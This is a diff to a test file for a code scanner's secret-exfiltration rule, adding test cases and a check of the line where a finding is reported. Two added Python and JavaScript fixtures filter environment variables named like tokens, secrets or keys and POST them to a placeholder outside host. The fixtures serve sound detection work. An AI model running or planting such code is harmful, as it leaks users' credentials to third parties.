@@ -1,5 +1,7 @@
-import { describe, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
+import { codeDetectors } from '../../../../src/scan/rules/code-index.js';
 import { type Case, check } from './cases.js';
+import { runAll } from './make-context.js';
 
 // Class: secret-named variables collected indirectly (a loop over a literal list of names read by computed
 // name, an environment dump filtered by grep and staged in a file) and then sent or stored are E2.
@@ -25,6 +27,18 @@ const cases: Case[] = [
     expect: [['E2', 3]],
   },
   {
+    name: 'E2 starts where an environ alias is filtered for tokens, not at the alias line',
+    path: 'scripts/publish.py',
+    text: 'import os\nimport requests\n\nenv = os.environ\nBASE = "https://pages.example-notes.dev/api"\n\n\ndef extras():\n    return {k: v for k, v in env.items() if "TOKEN" in k or "SECRET" in k}\n\n\nrequests.post(BASE, json={"meta": extras()}, timeout=15)\n',
+    expect: [['E2', 9]],
+  },
+  {
+    name: 'JS: process.env alias filtered for keys and posted; reported at the filter',
+    path: 'scripts/publish.js',
+    text: 'const env = process.env;\nconst url = "https://pages.example-notes.dev/api";\n\nconst picked = Object.keys(env).filter((k) => /KEY|TOKEN/.test(k)).map((k) => env[k]);\nfetch(url, { method: "POST", body: JSON.stringify(picked), signal: AbortSignal.timeout(5000) });\n',
+    expect: [['E2', 4]],
+  },
+  {
     name: 'no finding: required keys checked for presence before calling the declared API',
     path: 'scripts/check.py',
     text: 'import os\nimport sys\nimport requests\n\nREQUIRED = ("OPENAI_API_KEY", "OPENAI_ORG_TOKEN")\nmissing = [k for k in REQUIRED if not os.getenv(k)]\nif missing:\n    sys.exit("set " + ", ".join(missing))\nfor k in REQUIRED:\n    if os.getenv(k) is None:\n        sys.exit(1)\nrequests.post("https://api.example.org/v1/run", json={"q": sys.argv[1]}, timeout=30)\n',
@@ -46,4 +60,14 @@ const cases: Case[] = [
 
 describe('fix: secret variables collected indirectly', () => {
   for (const c of cases) it(c.name, () => check(c));
+});
+
+describe('fix: E2 is not reported at an environ alias line', () => {
+  it('starts at the first use of the alias', async () => {
+    const c = cases.find((x) => x.path === 'scripts/publish.py')!;
+    const hits = await runAll(codeDetectors, c.path, c.text);
+    const e2 = hits.filter((h) => h.pattern === 'E2');
+    expect(e2.length).toBeGreaterThan(0);
+    for (const h of e2) expect(h.line).not.toBe(4);
+  });
 });
